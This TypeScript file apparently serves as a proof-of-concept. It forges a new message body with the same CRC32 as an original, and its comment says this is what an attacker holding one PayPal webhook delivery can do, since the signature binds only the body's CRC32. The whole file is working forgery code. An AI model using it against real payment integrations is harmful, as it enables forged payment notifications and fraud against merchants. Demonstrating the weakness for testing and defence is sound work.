import CRC32 from 'crc-32';

const crc = (bytes: Buffer) => CRC32.buf(bytes) >>> 0;

/**
 * What an attacker holding one PayPal delivery can do: build another body with the same CRC32 (which is all PayPal's
 * signature binds of the body). `template` holds `placeholder` once, a run of '@' characters (10 or more); they are
 * replaced by characters from '@'…'O' (0x40–0x4F: printable, JSON-safe, differing only in their low 4 bits), chosen
 * by solving CRC32's linear equations over GF(2). Throws if the run offers too little freedom.
 */
export function forgeWithSameCrc32(original: Buffer, template: string, placeholder = '@'.repeat(12)): Buffer {
  const at = template.indexOf(placeholder);
  if (at < 0) throw new Error('placeholder not found in template');
  const base = Buffer.from(template);
  const offset = Buffer.byteLength(template.slice(0, at));
  const baseCrc = crc(base);
  const target = crc(original);
  // Flipping bit b of byte k changes the CRC by a fixed delta (same length: CRC is affine in the message bits).
  const columns: { byte: number; bit: number; delta: number }[] = [];
  for (let k = 0; k < placeholder.length; k++) {
    for (let bit = 0; bit < 4; bit++) {
      const flipped = Buffer.from(base);
      flipped[offset + k]! ^= 1 << bit;
      columns.push({ byte: offset + k, bit, delta: (crc(flipped) ^ baseCrc) >>> 0 });
    }
  }
  // Gaussian elimination: find a set of columns whose deltas XOR to baseCrc ^ target.
  const want = (baseCrc ^ target) >>> 0;
  const rows = columns.map((column, index) => ({ value: column.delta, picks: new Set([index]) }));
  const pivots: { bit: number; value: number; picks: Set<number> }[] = [];
  for (const row of rows) {
    let { value } = row;
    let picks = new Set(row.picks);
    for (const pivot of pivots) {
      if ((value >>> pivot.bit) & 1) {
        value = (value ^ pivot.value) >>> 0;
        picks = symmetricDifference(picks, pivot.picks);
      }
    }
    if (value === 0) continue;
    const bit = 31 - Math.clz32(value);
    // Keep earlier pivots reduced by this one, so each pivot bit appears in one pivot only.
    for (const pivot of pivots) {
      if ((pivot.value >>> bit) & 1) {
        pivot.value = (pivot.value ^ value) >>> 0;
        pivot.picks = symmetricDifference(pivot.picks, picks);
      }
    }
    pivots.push({ bit, value, picks });
  }
  let remaining = want;
  let chosen = new Set<number>();
  for (const pivot of pivots) {
    if ((remaining >>> pivot.bit) & 1) {
      remaining = (remaining ^ pivot.value) >>> 0;
      chosen = symmetricDifference(chosen, pivot.picks);
    }
  }
  if (remaining !== 0) throw new Error('not enough freedom in the placeholder to match the CRC32');
  const forged = Buffer.from(base);
  for (const index of chosen) forged[columns[index]!.byte]! ^= 1 << columns[index]!.bit;
  if (crc(forged) !== target) throw new Error('CRC32 forgery failed');
  return forged;
}

function symmetricDifference(a: Set<number>, b: Set<number>): Set<number> {
  const out = new Set(a);
  for (const item of b) {
    if (out.has(item)) out.delete(item);
    else out.add(item);
  }
  return out;
}
